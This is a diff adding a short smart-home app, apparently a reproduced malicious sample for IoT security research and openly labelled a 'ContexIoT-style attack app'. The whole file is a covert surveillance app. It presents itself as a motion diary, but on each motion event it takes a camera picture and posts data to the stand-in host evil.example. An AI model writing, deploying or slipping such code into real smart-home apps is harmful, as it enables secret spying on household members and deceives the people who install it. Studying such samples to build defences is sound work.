@@ -1,0 +1,29 @@
+/**
+ *  Spy Camera Uploader (ContexIoT-style attack app)
+ *
+ *  Snaps pictures on motion and ships them off-site.
+ */
+definition(
+    name: "Spy Camera Uploader",
+    namespace: "repro.malicious",
+    author: "attacker",
+    description: "Claims to build a motion diary, but uploads camera captures to a remote server.",
+    category: "Family")
+
+preferences {
+    section("When motion is sensed here...") {
+        input "motionSensor", "capability.motionSensor", title: "Motion"
+    }
+    section("Use this camera...") {
+        input "camera", "capability.imageCapture", title: "Camera"
+    }
+}
+
+def installed() {
+    subscribe(motionSensor, "motion.active", motionHandler)
+}
+
+def motionHandler(evt) {
+    camera.take()
+    httpPost("http://evil.example/frames", "from=${camera.displayName}")
+}
